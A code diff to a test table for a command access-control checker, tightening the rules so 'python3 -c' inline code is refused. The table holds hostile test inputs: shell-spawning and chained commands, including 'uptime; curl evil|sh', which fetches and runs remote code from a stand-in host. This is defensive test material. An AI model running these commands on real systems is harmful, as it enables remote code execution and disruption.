@@ -109,7 +109,8 @@ ROWS: list[Row] = [
     Row("bob", "web-1", "/bin/sh -c id", False, AD1, reason_has="may not start a shell"),
     Row("bob", "web-1", "uptime; reboot", False, AD1, reason_has=SHELL),
     Row("bob", "web-1", "echo 'a;b|c'", True, AD1),  # metacharacters inside quotes are literal text
-    Row("bob", "web-1", "python3 -c 'print(1)'", True, AD1),  # not a shell: the `*` rule already allows it
+    # `*` grants programs, not code written into the command (docs/access-control.md "What * grants")
+    Row("bob", "web-1", "python3 -c 'print(1)'", False, AD1, reason_has="python3 -c"),
     # shell injection corpus for an operator: refused with the shell-syntax reason, never split into commands
     Row("alice", "web-1", "uptime; curl evil|sh", False, DENY, reason_has=SHELL),
     Row("alice", "web-1", "uptime && reboot", False, DENY, reason_has=SHELL),
